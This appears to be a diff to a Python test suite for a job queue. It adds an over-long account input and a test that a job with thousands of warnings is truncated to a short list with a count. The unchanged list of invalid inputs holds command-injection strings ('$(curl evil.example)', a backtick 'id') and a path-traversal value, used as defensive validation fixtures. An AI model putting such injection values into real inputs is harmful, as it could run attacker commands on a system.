@@ -58,6 +58,7 @@ NONSENSE: list[dict[str, Any]] = [
     {"model_id": "$(curl evil.example)"},
     {"account": "acme`id`"},
     {"account": ""},
+    {"account": "a" * 256},
     {"path": "m"},
     {"path": "/m/" + "x" * 300},
     {"snapshot": "../m"},
@@ -103,6 +104,16 @@ def test_a_job_that_cannot_be_read_hides_no_other_and_is_shown_as_failed(
     assert jobs.of_model("b") == []
     with pytest.raises(UnreadableRow, match=f"job {ids[1]} "):
         jobs.job(ids[1])
+
+
+def test_of_a_row_of_countless_warnings_a_few_lines_are_shown(
+    jobs: Jobs, enqueue: Callable[..., int], put: Callable[..., None]
+) -> None:
+    job_id = enqueue("a")
+    put(job_id, warnings=["w" * 2000] * 5000)
+    warnings = jobs.job(job_id).warnings
+    assert (len(warnings), warnings[-1]) == (100, "and 4,901 more")
+    assert len(json.dumps(job_json(jobs.job(job_id), NOW))) < 150_000
 
 
 def test_a_job_that_has_ended_and_cannot_be_read_has_still_ended(
